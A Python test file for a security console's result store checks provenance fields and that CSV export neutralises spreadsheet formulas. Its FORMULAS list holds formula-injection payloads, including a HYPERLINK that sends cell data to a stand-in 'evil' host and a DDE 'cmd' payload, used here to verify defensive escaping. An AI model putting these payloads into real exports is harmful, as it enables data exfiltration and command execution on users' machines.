"""Provenance everywhere (module, compact parameters, target, signers, times) and CSV cells kept
byte for byte unless a spreadsheet would read them as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from console.lab.local import Lab
from console.results import history
from console.results.provenance import compact_params, default_name, signature_issuer
from console.results.store import Store
from console.results.text import is_formula
from protocol.action import Operation, make_action
from protocol.envelope import Envelope
from protocol.signing import Signer
from tests.support.cli import events, spyglass
from tests.support.lab import PLANTED_NAME

# -- CSV: formulas neutralised, data kept -------------------------------------------------------
DATA = [
    "-rw-r--r--",
    "-rwsr-xr-x",
    "drwxr-xr-x",
    "-5",
    "-2.5e3",
    "+7",
    "-",
    "--",
    'plain, with "quotes"\nand a newline',
    "/srv/-rf",
    "",
]
FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "-2+3",
    "+1-1",
    "@SUM(A1)",
    "-A1*2",
    "+cmd|' /C calc'!A0",
    "-SUM(1)",
    "\t=1",
    "\r-1",
]


def test_csv_round_trip_keeps_data_and_neutralises_formulas(tmp_path: Path) -> None:
    run_id = "01CSVROUNDTRIP00"
    store = Store(tmp_path / "r.db")
    try:
        store.begin_run(run_id, "csv", "all", ["file"], {}, 1)
        for value in DATA + FORMULAS:
            store.add_match(run_id, value, 0, "file", {"path": value, "mode": value, "size": 1})
        store.finish_run(run_id, 1, 0, 0)
        out = io.StringIO(newline="")
        history.write_csv(store, run_id, ["file"], out)
    finally:
        store.close()
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    header, body = rows[0], rows[1:]
    for column in ("host", "path", "mode"):
        cells = [row[header.index(column)] for row in body]
        assert cells[: len(DATA)] == DATA, column  # byte for byte
        assert cells[len(DATA) :] == ["'" + f for f in FORMULAS], column
    assert [is_formula(v) for v in DATA] == [False] * len(DATA)
    assert all(is_formula(f) for f in FORMULAS)


# -- names and provenance -----------------------------------------------------------------------


def test_default_name_reads_the_parameters() -> None:
    params = {"paths": ["/srv"], "content": [r"eval\(base64"], "xdev": True, "match_any": True}
    assert compact_params("file", params) == r"paths=/srv content=eval\(base64 match_any"
    assert default_name("file", params, "env=prod") == (
        r"file paths=/srv content=eval\(base64 match_any on env=prod"
    )
    assert default_name("agent", {}, "all") == "agent on all"
    long = compact_params("yara", {"rules": "rule x { condition: true }" * 3})
    assert long.startswith("rules=rule x") and long.endswith("…") and len(long) < 40


def test_signers_are_read_from_the_signatures(lab: Lab) -> None:
    signer = Signer(lab.gnupghome)
    envelope = signer.sign(Envelope(make_action("n", "all", [Operation("agent", {})])))
    assert [signature_issuer(s) for s in envelope.signatures] == [signer.fingerprint]
    assert signature_issuer("not a signature") is None
    assert signature_issuer(envelope.signatures[0].replace("\n\n", "\n\n====", 1)) is None


def test_provenance_in_list_show_and_every_export(
    lab: Lab, lab_env: dict[str, str], tmp_path: Path
) -> None:
    ran = spyglass(
        lab_env, "run", "file", "--paths", "/srv", "--name", PLANTED_NAME, "-t", "env=prod",
        "--json",
    )  # fmt: skip
    printed = events(ran.stdout)
    action = printed[0]
    fingerprint = Signer(lab.gnupghome).fingerprint
    assert action["event"] == "action" and action["module"] == "file"
    assert action["params"] == f"paths=/srv name={PLANTED_NAME}"
    assert action["name"] == f"file paths=/srv name={PLANTED_NAME} on env=prod"
    assert (action["target"], action["signers"]) == ("env=prod", [fingerprint])
    assert action["valid_from"] < action["expire_after"]

    shown = events(spyglass(lab_env, "results", "show", action["action_id"], "--json").stdout)
    assert shown[0] == action  # the action first, as `run --json` printed it
    assert sorted(map(str, shown[1:-1])) == sorted(map(str, printed[1:-1]))
    without_time = [
        {k: v for k, v in e.items() if k != "elapsed_ms"} for e in (shown[-1], printed[-1])
    ]
    assert without_time[0] == without_time[1] and shown[-1]["event"] == "summary"

    listed = spyglass(lab_env, "results", "list").stdout.splitlines()
    row = dict(zip(listed[0].split("\t"), listed[1].split("\t"), strict=True))
    assert (row["module"], row["params"], row["target"]) == ("file", action["params"], "env=prod")
    assert row["signers"] == fingerprint[-16:] and row["state"] == "done"

    text = spyglass(lab_env, "results", "show", "last").stdout
    assert f"signed by: {fingerprint}" in text and "target: env=prod" in text

    exported = spyglass(lab_env, "results", "show", "last", "--csv").stdout
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    assert rows and all(r["action_id"] == action["action_id"] for r in rows)
    assert {(r["params"], r["target"], r["signers"]) for r in rows} == {
        (action["params"], "env=prod", fingerprint)
    }
